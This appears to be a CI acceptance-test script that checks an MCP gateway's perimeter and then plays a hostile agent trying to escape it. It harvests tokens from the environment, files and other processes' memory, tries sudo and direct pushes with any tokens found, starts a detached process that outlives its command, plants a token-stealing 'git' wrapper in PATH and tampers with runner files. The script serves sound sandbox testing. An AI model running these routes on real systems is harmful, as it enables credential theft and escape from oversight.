#!/usr/bin/env node
// The scripted agent of .github/workflows/acceptance.yml: a plain MCP client over HTTP (Node's fetch, no
// dependency, so the agent's user runs it from a copy outside the checkout), then a hostile agent trying the
// known routes around the gateway. It decides nothing about the verdict: it writes what it did and found to
// $REPORT_DIR/report.json, and the workflow's own steps and its check job judge from that, the runner and
// GitHub's API. It exits non-zero only when the gateway's answers are not what README promises.
//
//   MCP_CONFIG  the perimeter step's mcp-config-<perimeter> file     PERIMETER   the perimeter's name
//   REPORT_DIR  a directory the agent may write                      RUN_TAG     names this run's marks
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';

const env = process.env;
const need = (name) => env[name] || fail(`${name} is not set`);
function fail(message) {
  process.stderr.write(`acceptance agent: ${message}\n`);
  process.exit(2);
}

const perimeter = need('PERIMETER');
const reportDir = need('REPORT_DIR');
const runTag = need('RUN_TAG');
const server = JSON.parse(readFileSync(need('MCP_CONFIG'), 'utf8')).mcpServers?.[perimeter];
if (!server) fail(`the MCP config names no server ${perimeter}`);

const report = { checks: [], candidates: [], routes: [], planted: [], leftover: null };
const check = (name, ok, detail) => {
  report.checks.push({ name, ok, detail: String(detail).slice(0, 400) });
  process.stdout.write(`${ok ? 'ok  ' : 'FAIL'} ${name}\n`);
};
const route = (name, outcome, detail = '') => {
  report.routes.push({ name, outcome, detail: String(detail).slice(0, 400) });
  process.stdout.write(`route ${name}: ${outcome}${detail ? ` (${String(detail).slice(0, 160)})` : ''}\n`);
};

// ---- 1. the gateway, as any MCP client reaches it (Streamable HTTP, JSON-RPC) ----
let ids = 0;
async function rpc(method, params) {
  const res = await fetch(server.url, {
    method: 'POST',
    headers: {
      ...server.headers,
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      'mcp-protocol-version': '2025-06-18',
    },
    body: JSON.stringify({ jsonrpc: '2.0', id: ++ids, method, params }),
  });
  const text = await res.text();
  // an SSE answer carries the JSON-RPC message on its data lines
  const json = (res.headers.get('content-type') ?? '').includes('text/event-stream')
    ? text
        .split('\n')
        .filter((l) => l.startsWith('data:'))
        .map((l) => l.slice(5))
        .join('')
    : text;
  const message = JSON.parse(json);
  if (message.error) throw new Error(`${method}: ${message.error.message}`);
  return message.result;
}
const call = async (name, args) => {
  const result = await rpc('tools/call', { name, arguments: args });
  return (result.content ?? []).map((c) => c.text ?? '').join('\n');
};

await rpc('initialize', {
  protocolVersion: '2025-06-18',
  capabilities: {},
  clientInfo: { name: 'perimeter-acceptance', version: '1' },
});
const tools = (await rpc('tools/list', {})).tools.map((t) => t.name);
check(
  'tools listed',
  ['get_file', 'push_files'].every((t) => tools.includes(t)),
  tools.join(', '),
);
const readable = await call('get_file', { path: 'test/acceptance/agent.mjs' });
check('read a file', readable.includes('The scripted agent of'), readable.slice(0, 200));
const hidden = await call('get_file', { path: 'SECURITY.md' });
const missing = await call('get_file', { path: 'test/acceptance/no-such-file.md' });
check(
  'hidden file answered exactly like a missing one',
  hidden.split('SECURITY.md').join('<p>') === missing.split('test/acceptance/no-such-file.md').join('<p>'),
  `hidden: ${hidden} missing: ${missing}`,
);
const outside = await call('push_files', {
  message: 'acceptance: outside the perimeter',
  files: [{ path: 'docs/acceptance-outside.md', content: 'refused\n' }],
});
check(
  'out-of-scope push refused',
  /refused/i.test(outside) && outside.includes('docs/acceptance-outside.md'),
  outside,
);
const inside = await call('push_files', {
  message: 'acceptance: inside the perimeter',
  files: [
    { path: `test/acceptance/pushed/${runTag}.md`, content: `pushed through the gateway by ${runTag}\n` },
  ],
});
check('in-scope push landed', /[0-9a-f]{40}/.test(inside) && !/refused/i.test(inside), inside);

// ---- 2. the token: everywhere the agent's user can look ----
const TOKEN = /\b(?:gh[pousr]_[A-Za-z0-9_]{20,}|github_pat_[A-Za-z0-9_]{20,})/g;
const candidates = new Set();
const harvest = (text) => {
  for (const m of text.matchAll(TOKEN)) candidates.add(m[0]);
  // git's basic credential: base64 of x-access-token:TOKEN
  for (const m of text.matchAll(/[A-Za-z0-9+/]{40,}={0,2}/g)) {
    const decoded = Buffer.from(m[0], 'base64').toString('latin1');
    for (const t of decoded.matchAll(TOKEN)) candidates.add(t[0]);
  }
};
harvest(JSON.stringify(env));
const seen = new Set();
// the checkout's files are the repository's (what the gateway serves anyway, test fixtures full of sample
// tokens included): of the checkout only its .git is searched, where a persisted credential would be
const checkout = env.GITHUB_WORKSPACE;
function scan(dir, depth = 0) {
  if (depth > 8 || seen.has(dir)) return;
  if (checkout && dir.startsWith(`${checkout}/`) && !dir.startsWith(`${checkout}/.git`)) return;
  seen.add(dir);
  let entries;
  try {
    entries = readdirSync(dir, { withFileTypes: true });
  } catch {
    return;
  }
  for (const e of entries) {
    const path = join(dir, e.name);
    if (e.isDirectory()) scan(path, depth + 1);
    else if (e.isFile()) {
      try {
        if (statSync(path).size < 4 * 1024 * 1024) harvest(readFileSync(path, 'latin1'));
      } catch {
        // unreadable: the point
      }
    }
  }
}
// the agent's own directories, the checkout, and the runner's (RUNNER_TEMP's parent: on GitHub /home/runner/work,
// with _temp, _actions and the checkout; the runner's step files are in RUNNER_TEMP/_runner_file_commands)
for (const dir of [env.HOME, env.TMPDIR, env.GITHUB_WORKSPACE, env.RUNNER_TEMP && dirname(env.RUNNER_TEMP)])
  if (dir) scan(dir);
// every process: its environment, its command line, and its memory where the kernel lets us read it
const others = [];
for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
  for (const file of ['environ', 'cmdline']) {
    try {
      harvest(readFileSync(`/proc/${pid}/${file}`, 'latin1').replaceAll('\0', '\n'));
    } catch {
      // another user's: the point
    }
  }
  try {
    if (statSync(`/proc/${pid}`).uid !== process.getuid()) others.push(Number(pid));
  } catch {
    // gone
  }
}
let memoryRead = 0;
for (const pid of others) {
  try {
    const maps = readFileSync(`/proc/${pid}/maps`, 'utf8');
    const fd = openSync(`/proc/${pid}/mem`, 'r');
    for (const line of maps.split('\n')) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
      if (!m) continue;
      const start = parseInt(m[1], 16);
      const size = Math.min(parseInt(m[2], 16) - start, 64 * 1024 * 1024);
      const buffer = Buffer.alloc(size);
      try {
        readSync(fd, buffer, 0, size, start);
        harvest(buffer.toString('latin1'));
        memoryRead++;
      } catch {
        // a region the kernel refuses
      }
    }
  } catch {
    // another user's memory: the point
  }
}
route("memory of other users' processes", memoryRead > 0 ? `read ${memoryRead} regions` : 'refused');
const sudo = spawnSync('sudo', ['-n', 'true'], { stdio: 'ignore' });
route('sudo', sudo.status === 0 ? 'allowed' : 'denied');
if (sudo.status === 0) {
  // with sudo, root reads every process's environment
  const all = spawnSync('sudo', ['-n', 'sh', '-c', 'cat /proc/[0-9]*/environ'], { encoding: 'latin1' });
  harvest((all.stdout ?? '').replaceAll('\0', '\n'));
}
report.candidates = [...candidates];
route('token search', `${candidates.size} candidate(s)`);

// ---- 3. a direct push around the gateway, with every candidate (and with none) ----
const [owner, repo] = need('GITHUB_REPOSITORY').split('/');
const branch = need('BOUND_BRANCH');
const api = async (token, method, path, body) => {
  const res = await fetch(`${need('GITHUB_API_URL')}/repos/${owner}/${repo}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, accept: 'application/vnd.github+json' },
    ...(body && { body: JSON.stringify(body) }),
    signal: AbortSignal.timeout(20_000),
  });
  if (!res.ok) throw new Error(`${method} ${path}: ${res.status}`);
  return res.json();
};
// every candidate up to ten (a search that finds more has found the machine's, not the job's), then none
const tries = [...candidates].slice(0, 10);
if (candidates.size > tries.length)
  route('push attempts', `the first ${tries.length} of ${candidates.size} candidates`);
for (const token of [...tries, '']) {
  const label = token ? `a found token ${token.slice(0, 4)}…` : 'no token';
  try {
    const ref = await api(token, 'GET', `/git/ref/heads/${branch}`);
    const head = ref.object.sha;
    const base = await api(token, 'GET', `/git/commits/${head}`);
    const tree = await api(token, 'POST', '/git/trees', {
      base_tree: base.tree.sha,
      tree: [{ path: 'docs/acceptance-rogue.md', mode: '100644', type: 'blob', content: `${runTag}\n` }],
    });
    const commit = await api(token, 'POST', '/git/commits', {
      message: `acceptance: rogue push around the gateway (${runTag})`,
      tree: tree.sha,
      parents: [head],
    });
    await api(token, 'PATCH', `/git/refs/heads/${branch}`, { sha: commit.sha, force: false });
    route(`REST push with ${label}`, 'LANDED', commit.sha);
  } catch (error) {
    route(`REST push with ${label}`, 'failed', error.cause?.code ?? error.message);
  }
  // git's own route, as a leftover credential would be used
  const work = mkdtempSync(join(tmpdir(), 'rogue-'));
  const git = (...args) =>
    spawnSync('git', args, {
      cwd: work,
      encoding: 'utf8',
      timeout: 30_000,
      env: { ...env, GIT_TERMINAL_PROMPT: '0' },
    });
  git('init', '-q');
  writeFileSync(join(work, 'rogue.md'), `${runTag}\n`);
  git('add', 'rogue.md');
  git(
    '-c',
    'user.name=rogue',
    '-c',
    'user.email=rogue@example.com',
    'commit',
    '-qm',
    `acceptance: rogue git push (${runTag})`,
  );
  const auth = token
    ? [
        '-c',
        `http.extraheader=AUTHORIZATION: basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`,
      ]
    : [];
  const url = `${need('GITHUB_SERVER_URL')}/${owner}/${repo}.git`;
  const push = git(...auth, 'push', url, `HEAD:refs/heads/acceptance-rogue/${runTag}`);
  route(
    `git push with ${label}`,
    push.status === 0 ? 'LANDED' : 'failed',
    (push.stderr ?? '').trim().split('\n').at(-1),
  );
}

// ---- 4. a process that outlives the agent's command ----
const leftover = spawn(
  '/bin/sh',
  ['-c', `while :; do date > '${join(reportDir, 'leftover-alive')}'; sleep 1; done`],
  {
    detached: true,
    stdio: 'ignore',
  },
);
leftover.unref();
report.leftover = leftover.pid;
route('leftover process', `started pid ${leftover.pid}`);

// ---- 5. a git of its own, wherever a trusted step might look for one ----
// If anything trusted runs it, it takes the token from that step's environment and leaves a tag GitHub keeps.
const planted = `#!/bin/sh
mark='${reportDir}/planted-ran'; echo "$(id -un) $0 $*" >> "$mark" 2>/dev/null
for t in $(env | grep -oE '(gh[pousr]_[A-Za-z0-9_]{20,}|github_pat_[A-Za-z0-9_]{20,})' | sort -u); do
  curl -s -o /dev/null -H "Authorization: Bearer $t" "${env.GITHUB_API_URL}/repos/${owner}/${repo}/git/refs" \\
    -d '{"ref":"refs/tags/acceptance-planted-${runTag}","sha":"'"$(/usr/bin/git rev-parse HEAD 2>/dev/null)"'"}'
done
exec /usr/bin/git "$@"
`;
const places = [
  ...(env.PATH ?? '').split(delimiter),
  join(env.HOME ?? '/nonexistent', '.local', 'bin'),
  join(env.HOME ?? '/nonexistent', 'bin'),
  env.GITHUB_WORKSPACE && join(env.GITHUB_WORKSPACE, 'node_modules', '.bin'),
].filter(Boolean);
// as root (no isolation) every directory is writable and the point is made: plant nothing on a shared machine
for (const dir of process.getuid() === 0 ? [] : new Set(places)) {
  try {
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'git'), planted, { flag: 'wx' });
    chmodSync(join(dir, 'git'), 0o755);
    report.planted.push(join(dir, 'git'));
  } catch {
    // not writable: the point
  }
}
route('planted git', report.planted.length > 0 ? `in ${report.planted.join(', ')}` : 'nowhere writable');

// ---- 6. the post step's files and settings ----
const commandFiles = (() => {
  try {
    return readdirSync(join(env.RUNNER_TEMP ?? '/nonexistent', '_runner_file_commands')).map((f) =>
      join(env.RUNNER_TEMP, '_runner_file_commands', f),
    );
  } catch {
    return [];
  }
})();
for (const target of [
  ...commandFiles,
  env.GITHUB_WORKSPACE && join(env.GITHUB_WORKSPACE, '.perimeter-action', 'dist', 'post', 'index.js'),
  env.GITHUB_WORKSPACE && join(env.GITHUB_WORKSPACE, '.perimeter-action', 'action.yml'),
].filter(Boolean)) {
  try {
    // appended as a comment where the file is code, so a step that still runs it shows the change, not a crash
    const mark = target.endsWith('.js')
      ? '\n// tampered by the acceptance agent\n'
      : target.endsWith('.yml')
        ? '\n# tampered by the acceptance agent\n'
        : 'PERIMETER_ACCEPTANCE_TAMPERED=1\n';
    writeFileSync(target, mark, { flag: 'a' });
    route(`write ${target}`, 'WRITTEN');
  } catch (error) {
    route(`write ${target}`, 'refused', error.code);
  }
}
// the gateway: another user's process, which the agent may not signal (signal 0 asks without stopping it)
const gateways = readdirSync('/proc')
  .filter((p) => /^\d+$/.test(p))
  .map(Number)
  .filter((pid) => {
    try {
      return /gateway\/index\.js/.test(readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
    } catch {
      return false;
    }
  });
for (const pid of gateways) {
  try {
    process.kill(pid, 0);
    route(`stop the gateway (pid ${pid})`, 'could signal');
  } catch (error) {
    route(`stop the gateway (pid ${pid})`, 'refused', error.code);
  }
}

writeFileSync(join(reportDir, 'report.json'), `${JSON.stringify(report, null, 2)}\n`);
try {
  execFileSync('sync');
} catch {
  // best effort
}
process.exitCode = report.checks.every((c) => c.ok) ? 0 : 1;
